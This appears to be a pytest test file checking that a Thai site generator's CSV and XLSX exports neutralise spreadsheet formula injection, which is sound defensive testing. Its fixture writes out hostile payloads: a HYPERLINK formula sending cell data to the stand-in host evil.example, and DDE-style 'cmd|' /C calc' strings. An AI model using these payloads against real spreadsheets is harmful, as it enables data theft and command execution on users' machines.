"""CSV injection (OWASP): no cell of a CSV or XLSX the site publishes opens as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from ita_site import spreadsheet
from sitekit import INDICATOR_YAML, ITEM_YAML, minimal_files, write_site

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"คลิก")'


@pytest.fixture(scope="module")
def output(tmp_path_factory):
    root = tmp_path_factory.mktemp("sheet")
    item = ITEM_YAML + f"note: '{ATTACK}'\ntitle: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
    indicator = INDICATOR_YAML.replace("ประสิทธิภาพการสื่อสาร", "\"+1+cmd|' /C calc'!A0\"").replace(
        "  - มีการเผยแพร่ข้อมูล", "  - \"-2+3\"\n  - \"\\tรายการที่มีแท็บ\"")
    project = write_site(root / "site", minimal_files({"content/2564/o43/item.yaml": item,
                                                        "content/2564/o43/01-communication.yaml": indicator}))
    from ita_site.cli import main
    assert main(["build", "-q", "--project", str(project), "--output", str(root / "out")]) == 0
    return root / "out"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("name", ["itas-2564.csv", "data/items.csv", "data/measures.csv", "urls.csv"])
def test_no_csv_cell_starts_like_a_formula(output, name):
    cells = _cells((output / name).read_text(encoding="utf-8"))
    assert cells, name
    assert not [c for c in cells if c.startswith(spreadsheet.TRIGGERS)], name


def test_the_attack_is_kept_as_text_in_the_csv(output):
    cells = _cells((output / "itas-2564.csv").read_text(encoding="utf-8"))
    assert "'" + ATTACK in cells
    measures = _cells((output / "data/measures.csv").read_text(encoding="utf-8"))
    assert "'-2+3" in measures and "'\tรายการที่มีแท็บ" in measures


def test_xlsx_holds_strings_never_formulas(output):
    book = load_workbook(output / "itas-2564.xlsx")
    sheet = book.active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in values if c.data_type == "f"]
    assert not [c for c in values if isinstance(c.value, str) and c.value.startswith(spreadsheet.TRIGGERS)]
    assert "'" + ATTACK in [c.value for c in values]
    raw = (output / "itas-2564.xlsx").read_bytes()
    import zipfile
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("https://x/", "https://x/"), ("ข้อความ", "ข้อความ"), ("", ""), (5, 5), (-5, -5), (None, None),
])
def test_neutral(value, expected):
    assert spreadsheet.neutral(value) == expected
